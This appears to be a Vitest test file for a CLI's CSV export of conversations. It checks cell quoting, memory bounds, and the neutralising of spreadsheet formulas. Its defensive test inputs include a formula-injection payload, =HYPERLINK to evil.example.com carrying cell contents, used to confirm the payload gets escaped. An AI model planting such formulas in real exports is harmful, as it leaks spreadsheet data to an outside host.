/** `platform export conversations --format csv`. */
// @module-tag long

import { mkdirSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { beforeAll, describe, expect, test } from 'vitest';
import { rowsFrom } from '../../cli/src/evaluate/csv.ts';
import { csvRows, scoresCsv } from '../../cli/src/export/csv.ts';
import { type Sink, writeFiles } from '../../cli/src/export/files.ts';
import { ExportFile, type ExportPart } from '../../clients/typescript/src/index.ts';
import { useCli } from '../support/cli.ts';
import { runJob } from '../support/exports.ts';

const cellsIn = (text: string) => rowsFrom(text).map(({ cells }) => cells);

describe('cells', () => {
  const texts = [
    'plain',
    'a,b',
    'say "hi"',
    'two\nlines',
    'old\rlines',
    'both\r\nends',
    ' space ',
    'ü 🙂',
    '',
    "'",
  ];

  test('are the same when they are read', () => {
    expect(cellsIn(csvRows([texts, texts.toReversed()], true))).toEqual([texts, texts.toReversed()]);
  });

  test.each([
    ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '\u0000=1', '\u001b[1m', '\u009b1m'],
    ...['\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20A'],
    '=HYPERLINK("https://evil.example.com?x="&A1,"x")',
  ])('that begin as a formula get an apostrophe: %j', (text) => {
    // An unquoted cell ends at its separator, so the second one shows that the first one has not ended early.
    expect(cellsIn(csvRows([[text, 'b']], true))).toEqual([[`'${text}`, 'b']]);
    expect(cellsIn(csvRows([[text, 'b']], false))).toEqual([[text, 'b']]);
  });

  test('that are no texts stay as they are', () => {
    expect(csvRows([[-1, 0, 0.5, true, false, null, undefined]], true)).toBe('-1,0,0.5,true,false,,\r\n');
  });
});

const line = (id: string, further: object) =>
  JSON.stringify({ id, startedAt: '2026-03-01T10:00:00.000Z', ...further });

test('further messages of a conversation are no row, and an old line without scores is one', () => {
  const { head, row } = scoresCsv(['b', 'a'], true);
  expect(cellsIn(head)[0]?.slice(-3)).toEqual(['messageCount', 'score.b', 'score.a']);
  expect(row(JSON.stringify({ id: 'conv_1', messages: [] }))).toBe('');
  expect(cellsIn(row(line('conv_1', {})))[0]?.[0]).toBe('conv_1');
  const scores = [
    { name: 'a', value: '=1' },
    { name: 'b', value: null },
    { name: 'other', value: 7 },
  ];
  expect(cellsIn(row(line('conv_1', { scores })))[0]?.slice(-2)).toEqual(['', "'=1"]);
});

test('memory is bounded: no more than a piece waits for the file', async () => {
  const part = { number: 1, status: 'ready', records: 50_000, removedBecause: null } as ExportPart;
  const files = async function* () {
    yield new ExportFile(part, async function* () {
      const lines = Array.from({ length: 50_000 }, (_, at) => {
        const scores = [{ name: 'csat', value: at }];
        return line(`conv_${at}`, { scores, tags: ['x'.repeat(50)] });
      });
      yield gzipSync(`${lines.join('\n')}\n`);
    });
  };
  let [rows, largest] = [0, 0];
  const sink: Sink = {
    append: async (data) => {
      largest = Math.max(largest, data.length);
      rows += `${data}`.split('\r\n').length - 1;
    },
    discard: async () => {},
    keep: () => {},
  };
  const settings = {
    isCompressed: false,
    onProgress: () => {},
    openRows: async () => scoresCsv(['csat'], true),
  };
  expect(await writeFiles(files(), sink, settings)).toEqual({ records: 50_000, missing: [] });
  expect(rows).toBe(50_001);
  expect(largest).toBeLessThan(70_000);
});

describe('an export', () => {
  const cli = useCli();
  let cwd: string;
  const run = (...args: string[]) => cli.run(args, { env: cli.project.env, cwd });

  beforeAll(async () => {
    cwd = join(cli.home, 'csv');
    mkdirSync(cwd);
    const { conversations, evaluators } = cli.project.project;
    await evaluators.create({ name: 'csat', kind: 'external', output: { type: 'number', min: -5, max: 5 } });
    await evaluators.create({ name: 'note', kind: 'external', output: { type: 'text' } });
    const values = ['=2+3', 'good, "really"'];
    await evaluators.create({ name: 'word', kind: 'external', output: { type: 'category', values } });
    await evaluators.create({ name: 'all', kind: 'external', output: { type: 'boolean' } });
    const scored = { csat: -2, note: 'late', word: '=2+3', all: false };
    for (const [at, scores] of [scored, { word: 'good, "really"' }, {}].entries()) {
      const { id } = await conversations.create({
        avatarId: 'avtr_01JZ4Y7Q8R5T2V9W3X6B0C1D4E',
        externalUserId: '@user',
        tags: ['a', 'b'],
        startedAt: `2026-03-0${at + 1}T10:00:00.000Z`,
      });
      // More than a line has.
      const messages = Array.from({ length: 25 }, () => ({ role: 'user' as const, text: 'hello' }));
      const times = at === 0 ? 9 : 1;
      for (let time = 0; time < times; time += 1) await conversations.append(id, { messages });
      for (const [name, value] of Object.entries(scores)) await conversations.scores.put(id, name, { value });
    }
  });

  async function exported(...args: string[]) {
    const running = run('export', 'conversations', ...args);
    const { jobs } = cli.project.project;
    const isQueued = async () => (await jobs.list({ status: 'queued' })).items.length > 0;
    await expect.poll(isQueued, { timeout: 30_000 }).toBe(true);
    const [job] = (await jobs.list({ status: 'queued' })).items;
    await runJob(cli.api, cli.project.id, job?.id ?? '');
    return { ...(await running), job: job?.id ?? '' };
  }

  test('has a row for each conversation, and a column for each score', async () => {
    const ran = await exported('-o', 'out.csv');
    expect(ran).toMatchObject({ code: 0, stdout: '', stderr: '3 conversations in out.csv\n' });
    expect(readdirSync(cwd)).toEqual(['out.csv']);
    const text = readFileSync(join(cwd, 'out.csv'), 'utf8');
    const [head = [], ...rows] = cellsIn(text);
    // A text or an object has no value in exports.
    expect(head.slice(-4)).toEqual(['messageCount', 'score.all', 'score.csat', 'score.word']);
    const of = (name: string) => rows.map((row) => row[head.indexOf(name)]);
    expect(of('externalUserId')).toEqual(["'@user", "'@user", "'@user"]);
    expect(of('tags')).toEqual(['a b', 'a b', 'a b']);
    expect(of('messageCount')).toEqual(['225', '25', '25']);
    expect(of('score.csat')).toEqual(['-2', '', '']);
    expect(of('score.all')).toEqual(['false', '', '']);
    expect(of('score.word')).toEqual(["'=2+3", 'good, "really"', '']);

    const raw = await run('export', 'download', ran.job, '--format', 'csv', '--no-escape-formulas');
    expect(cellsIn(raw.stdout)[1]?.at(-1)).toBe('=2+3');
    const lines = await run('export', 'download', ran.job);
    expect(lines.stdout).toMatch(/^\{.*"scores":\[\{"name":"all","value":false/);
    expect(lines.stdout.split('\n')).toHaveLength(5);
  });

  test('has only its first row if nothing matches the scores', async () => {
    const ran = await exported('--format', 'csv', '--score', 'csat:gte:3', '--score', 'all:exists');
    expect(ran).toMatchObject({ code: 0, stderr: '0 conversations\n' });
    expect(cellsIn(ran.stdout)).toHaveLength(1);
  });

  test('is not compressed, and only conversations are CSV', async () => {
    const compressed = ['export', 'conversations', '--gzip', '-o', 'out.csv'];
    expect(await run(...compressed)).toMatchObject({ code: 2, stdout: '' });
    const { id } = await cli.project.project.exports.create({ what: 'documents' });
    expect(await run('export', 'download', id, '--format', 'csv')).toMatchObject({ code: 2, stdout: '' });
    await cli.project.project.jobs.cancel(id);
  });
});
